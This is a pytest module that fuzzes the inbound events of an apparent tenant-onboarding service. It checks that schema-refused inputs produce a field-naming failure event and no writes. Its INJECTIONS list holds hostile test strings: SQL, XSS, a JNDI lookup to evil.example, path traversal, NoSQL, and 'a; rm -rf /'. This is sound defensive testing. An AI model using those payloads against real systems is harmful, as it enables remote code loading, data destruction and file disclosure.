"""Generated bad input for every inbound event: types, sizes, unicode, control characters, injection strings,
missing and unknown fields. Each case the contract (schemas/events/<type>.json) refuses is posted; each must
end in its `*Failed` event naming the field, and write nothing. The cases are made from the schemas and their
samples, so a field added to the contract is covered at once. (API bodies: tests/runtime/test_api_fuzz.py.)
"""

from __future__ import annotations

import copy
import json
import re
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import cache
from typing import Any

import jsonschema
import pytest
from jsonschema import ValidationError

from helpers import ROOT, registration_request
from helpers.definitions import tasks
from helpers.reliability import REPORT
from tenantry.events import FAILURE_EVENT_FOR, event_id
from tenantry.naming import WORKFLOW_PREFIXES, execution_name

SCHEMAS = {
    path.stem: json.loads(path.read_text())
    for path in sorted((ROOT / "schemas" / "events").glob("*.json"))
    if json.loads(path.read_text()).get("x-direction") == "inbound"
}
MACHINES = {  # the workflow each request starts, by stack output, and its definition
    "TenantOnboardingRequested": ("TenantOnboardingStateMachineArn", "tenant_onboarding"),
    "TenantOffboardingRequested": ("TenantOffboardingStateMachineArn", "tenant_offboarding"),
    "UserRegistrationRequested": ("UserRegistrationStateMachineArn", "user_registration"),
    "MfaRequirementChangeRequested": ("MfaRequirementChangeStateMachineArn", "mfa_requirement_change"),
}
INJECTIONS = (
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    '{"$ne": null}',
    "a; rm -rf /",
)
MISSING = object()


@dataclass(frozen=True)
class Case:
    detail_type: str
    field: str  # the dotted path the rejection must name
    kind: str
    detail: dict[str, Any]


def string_values(prop: dict[str, Any], valid: str) -> Iterator[tuple[str, Any]]:
    if prop.get("minLength", 0) >= 1:
        yield "empty", ""
    if "maxLength" in prop:
        yield "too long", valid + "x" * (prop["maxLength"] + 1 - len(valid))
    yield "trailing newline", valid + "\n"
    yield "control character", valid[:1] + "\u0000" + valid[1:]
    yield "bidirectional override", "\u202e" + valid
    yield "unicode lookalike", valid.replace("a", "\u0430").replace("e", "\u0435") + "\u00e9"
    yield "whitespace only", "   "
    for n, injection in enumerate(INJECTIONS):
        yield f"injection {n + 1}", injection


def field_values(prop: dict[str, Any], valid: Any) -> Iterator[tuple[str, Any]]:
    yield "null", None
    kind = prop.get("type")
    yield "wrong type", {"string": 12345, "boolean": "true", "object": "an object", "integer": "1"}.get(kind, [])
    yield "list", [valid]
    if kind == "string":
        yield from string_values(prop, valid)
    if "enum" in prop:
        yield "not one of the allowed", "Root"


def cases_of(detail_type: str, schema: dict[str, Any], sample: dict[str, Any]) -> Iterator[Case]:
    """Each mutation of one field of the sample; only those the contract refuses are kept by the caller."""

    def walk(node_schema: dict[str, Any], node_sample: dict[str, Any], path: tuple[str, ...]) -> Iterator[Case]:
        for name, prop in node_schema.get("properties", {}).items():
            at = (*path, name)
            valid = node_sample.get(name, MISSING)
            if name in node_schema.get("required", ()):
                yield Case(detail_type, ".".join(at), "missing", with_value(sample, at, MISSING))
            for kind, value in field_values(prop, valid if valid is not MISSING else "x"):
                yield Case(detail_type, ".".join(at), kind, with_value(sample, at, value))
            if prop.get("type") == "object" and isinstance(valid, dict):
                yield from walk(prop, valid, at)
        if node_schema.get("additionalProperties") is False:
            extra = (*path, "isAdmin")
            yield Case(detail_type, ".".join(extra), "unknown field", with_value(sample, extra, True))

    yield from walk(schema, sample, ())


def with_value(sample: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    detail = copy.deepcopy(sample)
    node = detail
    for key in path[:-1]:
        node = node[key]
    if value is MISSING:
        node.pop(path[-1], None)
    else:
        node[path[-1]] = value
    return detail


@cache
def contract(detail_type: str) -> Any:
    """The schema as JSON Schema means it: a pattern is an ECMA-262 regular expression, whose `$` (without the
    multiline flag) is the end of the string only, where Python's lets it match before a final newline."""

    def pattern(validator: Any, expected: str, instance: Any, schema: dict[str, Any]) -> Iterator[ValidationError]:
        if validator.is_type(instance, "string") and not re.search(re.sub(r"\$$", r"\\Z", expected), instance):
            yield ValidationError(f"{instance!r} does not match {expected!r}")

    return jsonschema.validators.extend(jsonschema.Draft202012Validator, {"pattern": pattern})(SCHEMAS[detail_type])


def refused_by_contract(detail_type: str, detail: dict[str, Any]) -> bool:
    return not contract(detail_type).is_valid(detail)


@pytest.fixture(scope="module")
def pending_code(tenantry):
    """A real activation code of a user waiting for it: every activation case carries it unless the case is
    about the code, so that an activation let through would be seen (the user ACTIVE)."""
    tenant = tenantry.onboarded("shared")
    request_id = tenantry.register(registration_request(tenantry.request_id("bad-input"), tenant["tenantId"]))
    [registered] = tenantry.outbound.wait_for("UserRegistered", timeout=30, requestId=request_id)
    user_id = registered["detail"]["userId"]
    [issued] = tenantry.outbound.wait_for("UserActivationCodeIssued", timeout=30, userId=user_id)
    return {"code": issued["detail"]["code"], "userId": user_id, "tenant": tenant}


def samples(pending_code: dict[str, Any]) -> dict[str, dict[str, Any]]:
    found = {t: json.loads((ROOT / "schemas" / "samples" / f"{t}.json").read_text()) for t in SCHEMAS}
    found["UserActivationRequested"]["code"] = pending_code["code"]
    return found


def test_every_inbound_event_has_a_sample_and_a_way_to_be_refused():
    assert set(SCHEMAS) == {*MACHINES, "UserActivationRequested"}
    assert set(MACHINES) <= set(FAILURE_EVENT_FOR)
    for detail_type in SCHEMAS:
        assert (ROOT / "schemas" / "samples" / f"{detail_type}.json").is_file(), detail_type


def test_generated_bad_input_for_every_inbound_event_is_refused_naming_the_field_and_writes_nothing(
    tenantry, runtime, pending_code
):
    events = runtime.client("events")
    bus = tenantry.outputs["EventBusName"]
    generated = [case for t, sample in samples(pending_code).items() for case in cases_of(t, SCHEMAS[t], sample)]
    posted = [case for case in generated if refused_by_contract(case.detail_type, case.detail)]
    assert len(posted) >= 150, len(posted)
    marker = uuid.uuid4().hex[:8]

    def post(numbered: tuple[int, Case]) -> tuple[Case, str, str]:
        """The case, the id of the *Failed event it must cause, and its execution's name ("" for activation)."""
        n, case = numbered
        detail = copy.deepcopy(case.detail)
        if case.field != "requestId" and isinstance(detail.get("requestId"), str):
            detail["requestId"] = f"bad-{marker}-{n}"  # each case its own request (its own execution)
        entry = {"Source": tenantry.source, "DetailType": case.detail_type, "Detail": json.dumps(detail), "EventBusName": bus}
        answer = events.put_events(Entries=[entry])
        assert answer["FailedEntryCount"] == 0, (case, answer)
        bridge_id = answer["Entries"][0]["EventId"]
        request_id = detail.get("requestId")
        failed = failure_event(case.detail_type)
        if case.detail_type in MACHINES:
            name = execution_name(WORKFLOW_PREFIXES[case.detail_type], request_id, bridge_id)
            return case, event_id(name, failed), name
        origin = request_id if isinstance(request_id, str) and request_id else bridge_id
        return case, event_id(origin, failed), ""

    with ThreadPoolExecutor(max_workers=8) as pool:
        sent = list(pool.map(post, enumerate(posted)))

    wanted = {expected for _, expected, _ in sent}
    deadline = time.monotonic() + 180
    received: dict[str, dict[str, Any]] = {}
    while time.monotonic() < deadline and not wanted <= set(received):
        received = {e["detail"]["eventId"]: e for e in tenantry.outbound.drain() if e["detail"].get("eventId") in wanted}
        time.sleep(0.5)

    table = REPORT.table(
        "bad-input",
        "Generated bad input for every inbound event",
        (
            "Each case changes one field of the event's sample (schemas/samples/): missing, null, another type, a "
            "list, empty, too long, a trailing newline, a NUL, a bidirectional override, lookalike letters, "
            "whitespace only, six injection strings, a value outside its enum, and an unknown field. Cases the "
            "contract (schemas/events/) accepts are not posted (free text may hold an injection string as data). "
            "*named the field*: the request's *Failed event arrived with that field; *wrote nothing*: its "
            "execution made no call but checking the request and publishing the refusal (for an activation: the "
            "code carried by every case is still unused and its user still PENDING)."
        ),
        ("request", "generated", "accepted by the contract", "posted", "refused", "named the field", "wrote nothing"),
    )
    allowed = {output: check_or_refusal(definition(machine)) for output, machine in MACHINES.values()}
    problems: list[str] = []
    per_type: dict[str, Counter[str]] = {t: Counter() for t in SCHEMAS}
    for case, expected, name in sent:
        counts = per_type[case.detail_type]
        counts["posted"] += 1
        event = received.get(expected)
        if event is None:
            problems.append(f"{case.detail_type} {case.field} {case.kind}: no {failure_event(case.detail_type)}")
            continue
        counts["refused"] += 1
        if event["detail"].get("field") == case.field:
            counts["named"] += 1
        else:
            problems.append(f"{case.detail_type} {case.field} {case.kind}: named {event['detail'].get('field')!r}")
        if case.detail_type in MACHINES:
            output = MACHINES[case.detail_type][0]
            states = [s for s in tenantry.states(tenantry.execution_arn(output, name)) if s in task_names(output)]
            if set(states) <= allowed[output]:
                counts["nothing written"] += 1
            else:
                problems.append(f"{case.detail_type} {case.field} {case.kind}: ran {states}")
    activation = per_type["UserActivationRequested"]
    profile = tenantry.profile(pending_code["userId"]) or {}
    activated = tenantry.outbound.matching("UserActivated", userId=pending_code["userId"])
    # the code every case carried was never used (the user may have expired since: the runtime's codes are short)
    if profile.get("status") in ("PENDING", "EXPIRED") and not activated:
        activation["nothing written"] = activation["refused"]
    else:
        problems.append(f"the pending user is {profile.get('status')} after the activation cases")
    for detail_type, counts in per_type.items():
        made = sum(case.detail_type == detail_type for case in generated)
        table.add(
            detail_type,
            made,
            made - counts["posted"],
            counts["posted"],
            counts["refused"],
            counts["named"],
            counts["nothing written"],
        )
    assert problems == [], "\n".join(problems[:40])


def failure_event(detail_type: str) -> str:
    """The *Failed event a refused request ends in (an activation is refused by its function, not a workflow)."""
    return FAILURE_EVENT_FOR.get(detail_type, "UserActivationFailed")


def definition(machine: str) -> dict[str, Any]:
    return json.loads((ROOT / "statemachines" / f"{machine}.asl.json").read_text())


def task_names(output: str) -> set[str]:
    machine = next(m for o, m in MACHINES.values() if o == output)
    return {name for name, _ in tasks(definition(machine)["States"])}


def check_or_refusal(document: dict[str, Any]) -> set[str]:
    """The tasks a refused request may run: the first state, which checks it, and those that publish events."""
    publishing = {name for name, state in tasks(document["States"]) if state["Resource"] == "arn:aws:states:::events:putEvents"}
    return {document["StartAt"], *publishing}
